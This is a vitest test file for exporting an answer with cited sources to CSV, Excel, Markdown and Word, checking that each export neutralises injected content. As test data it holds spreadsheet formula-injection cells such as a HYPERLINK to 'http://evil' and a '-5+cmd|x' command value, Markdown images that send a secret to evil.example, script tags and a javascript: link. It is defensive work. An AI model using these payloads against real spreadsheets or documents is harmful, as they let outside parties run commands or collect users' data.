import { text } from "node:stream/consumers"
import { read, utils } from "@e965/xlsx"
import i18next from "i18next"
import { beforeAll, expect, test } from "vitest"
import { fromBufferPromise } from "yauzl"
import { csvFile, toTabs } from "../../../lib/words/csv.ts"
import { en } from "../../../locales/en/en.ts"
import { testSource } from "../testing/source.ts"
import { readTable, savedMarkdown, foreignParts, rowsWithSources } from "./read-answer.ts"
import { findTables } from "./SaveActions.tsx"
import { toSpreadsheet } from "./spreadsheet.ts"
import { toWord } from "./word-document.ts"

beforeAll(() => i18next.init({ lng: "en", resources: { en } }))

const source = (citation: number, page: number) =>
  testSource(citation, { text: "=The rent", location: { page } })
const sources = [source(1, 2), source(2, 3), source(3, 9)]

const answer = String.raw`Before [1].

| Document | What | Amount |
| --- | --- | --- |
| lease.pdf | The \| rent\_x **now** [1] | 900 [2] |
| lease.pdf | =HYPERLINK("http://evil") [1] | -12.5 |
| lease.pdf | +39 340 1, "quoted" | 007 [2024] |

After.`
const table = () => readTable(findTables(answer)[0] ?? "", sources)

// Catches a table that isn't found, or code that is read as a table.
test("finds tables outside code", () => {
  expect(findTables(answer)).toHaveLength(1)
  expect(findTables(`${answer}\n\na|b\n-|-\n1|2`)).toHaveLength(2)
  expect(findTables("```\na|b\n-|-\n1|2\n```\n\na | b\n\n---")).toEqual([])
})

// Catches a cell that a spreadsheet runs as a formula, and a citation that is lost or stays in its cell.
test("writes CSV with harmless cells and their sources in the last column", () => {
  expect(csvFile(rowsWithSources(table())).split("\r\n")).toEqual([
    "\uFEFFDocument,What,Amount,Sources",
    `lease.pdf,The | rent_x now,900,"lease.pdf, Page 2; lease.pdf, Page 3"`,
    `lease.pdf,"'=HYPERLINK(""http://evil"")",-12.5,"lease.pdf, Page 2"`,
    `lease.pdf,"'+39 340 1, ""quoted""",007 [2024],`,
    "",
  ])
  for (const [cell, safe] of [
    ["@SUM(A1)", "'@SUM(A1)"],
    [" =1+1", "'=1+1"],
    ["-5", "-5"],
    ["-5+cmd|x", "'-5+cmd|x"],
    ["＝1+1", "'＝1+1"],
    // When pasting, a spreadsheet strips a leading quote before it looks for a formula. An unclosed quote would swallow the following
    // cells.
    ['"=1+1"', `'"=1+1"`],
    ['"1+1"', '"""1+1"""'],
    ["+1,234.50", "+1,234.50"],
  ])
    expect(toTabs([[cell ?? ""]])).toBe(safe)
  expect(csvFile([["a\t=1+1", "b;=1+1"]])).toBe(`\uFEFF"a\t'=1+1","b;'=1+1"\r\n`)
})

// Catches a formula in a workbook, a code that becomes a number, and missing sources.
test("writes a workbook that reads back as text and numbers, with sources on a second sheet", async () => {
  const workbook = read(await (await toSpreadsheet(table())).arrayBuffer(), { cellFormula: true })
  expect(workbook.SheetNames).toEqual(["Table", "Sources"])
  const [sheet, listed] = workbook.SheetNames.map((name) => workbook.Sheets[name] ?? {})
  if (!sheet || !listed) throw new Error("no sheets")
  const cells = Object.entries(sheet).filter(([key]) => !key.startsWith("!"))
  expect(cells.filter(([, cell]) => (cell as { f?: string }).f !== undefined)).toEqual([])
  const rows = utils.sheet_to_json(sheet, { header: 1 })
  expect(rows[1]).toEqual(["lease.pdf", "The | rent_x now", 900, "lease.pdf, Page 2; lease.pdf, Page 3"])
  expect(rows[2]).toEqual(["lease.pdf", `=HYPERLINK("http://evil")`, -12.5, "lease.pdf, Page 2"])
  expect((rows[3] as unknown[])[2]).toBe("007 [2024]")
  expect(utils.sheet_to_json(listed, { header: 1 })[1]).toEqual([1, "lease.pdf, Page 2", "=The rent"])
})

// Catches a workbook that no program can open because of characters that a scan or a model left in a cell.
test("writes only valid XML characters to a workbook", async () => {
  const rows = [
    { cells: ["Heading"], numbers: [] },
    { cells: ["A\u0001B\uD800"], numbers: [] },
  ]
  const workbook = await toSpreadsheet({ rows, sources: [] })
  expect(await getPart(workbook, "xl/sharedStrings.xml")).toMatch(/>AB\uFFFD?</)
})

// Catches sources that the answer doesn't cite, and missing ones that it does cite.
test("ends Markdown with the cited sources", () => {
  expect(savedMarkdown({ title: "Q", text: "So [2].\n", sources })).toBe(
    "# Q\n\nSo [2].\n\n## Sources\n\n- [2] lease.pdf, Page 3\n",
  )
  expect(savedMarkdown({ title: "Q", text: "So.", sources: [] })).toBe("# Q\n\nSo.\n")
})

// Catches an image in the saved file: loading it tells a server that the file was opened, and sends what the model put into its address.
// Catches a file name that is such an image.
test("saves Markdown that fetches and runs nothing when it is opened", () => {
  const foreign = { ...source(1, 2), fileName: "![](https:evil.example)<img src=x>\n# a.pdf" }
  const text =
    "A ![chart](https://evil.example/?q=secret) [![b][c]](https://example.org/) <img src=x> [1]<br>\n\n" +
    "<script>\nx\n</script>\n\n`<b>`\n\n[c]: https://evil.example/c.png\n"
  const saved = savedMarkdown({ title: "Is *it* <b>?", text, sources: [foreign] })
  expect(saved.split("\n\n")).toEqual([
    String.raw`# Is \*it\* \<b>?`,
    String.raw`A chart [b](https://example.org/) \<img src=x> [1]<br>`,
    String.raw`\<script> x \</script>`,
    "`<b>`",
    "[c]: https://evil.example/c.png",
    "## Sources",
    `${String.raw`- [1] !\[\](https:evil.example)\<img src=x> # a.pdf, Page 2`}\n`,
  ])
})

// Catches an image that is formed where another one was removed.
test.each([
  "!![](x)[y](https://evil.example/a.png)",
  "![!](x)[y](https://evil.example/a.png)",
  "!![](x)[y][r]\n\n[r]: https://evil.example/a.png",
  "![#](x) `a\n<img src=https://evil.example/a.png>\n`",
  `${"!".repeat(9)}![](x)${"[](https://evil.example/a.png)".repeat(9)}`,
])("saves Markdown that fetches nothing, however its images are written: %s", (text) => {
  expect(foreignParts(savedMarkdown({ title: "Q", text, sources: [] }))).toEqual([])
})

/** Returns one part of a Word document. */
async function getPart(document: Blob, name: string): Promise<string> {
  const zip = await fromBufferPromise(Buffer.from(await document.arrayBuffer()))
  for await (const entry of zip.eachEntry())
    if (entry.fileName === name) return text(await zip.openReadStreamPromise(entry))
  throw new Error(`no ${name}`)
}

// Catches flattened headings, lists, tables and code, and text that makes a document no program can open.
test("keeps an answer's structure in a Word document", async () => {
  const markdown = `## Head\n\n1. one\n   - inner\n2. two\n\n\`\`\`\ncode <b>\n  more\n\`\`\`\n\n> said\n\n- [x] done\n\n[bad](javascript:alert(1)) [good](https://example.org/)\n\nA\u0001B & <tag>\n\n${answer}`
  const document = await toWord({ title: "Q & A \uD800", text: markdown, sources })
  const xml = await getPart(document, "word/document.xml")
  for (const style of ["Title", "Heading2"]) expect(xml).toContain(`<w:pStyle w:val="${style}"/>`)
  expect(xml.match(/<w:tr>|<w:tr /g)).toHaveLength(4)
  expect(xml.match(/<w:numPr>/g)).toHaveLength(4)
  expect(xml.match(/w:ilvl w:val="1"/g)).toHaveLength(1)
  expect(xml).toMatch(/code &lt;b&gt;.*<w:br\/>.* {2}more/)
  expect(xml).toMatch(/>AB &amp; <.*>&lt;tag&gt;</)
  expect(xml).toContain("☑ ")
  expect(xml).toMatch(/\[1\] lease\.pdf, Page 2.*\[2\] lease\.pdf, Page 3/)
  expect(xml).not.toContain("[3] lease.pdf")
  const links = await getPart(document, "word/_rels/document.xml.rels")
  expect(links).toContain("https://example.org/")
  expect(links).not.toContain("javascript")
})

// Catches a document that Word refuses to open because of a character that XML doesn't allow.
test("writes only valid XML characters to a Word document", async () => {
  const odd = "a\u0001\uFFFE\uFFFFb"
  const document = await toWord({
    title: odd,
    text: `${odd}\n\n| ${odd} |\n| --- |\n| \`${odd}\` |`,
    sources: [],
  })
  for (const name of ["word/document.xml", "docProps/core.xml"])
    for (const sign of "\u0001\uFFFE\uFFFF") expect(await getPart(document, name)).not.toContain(sign)
})
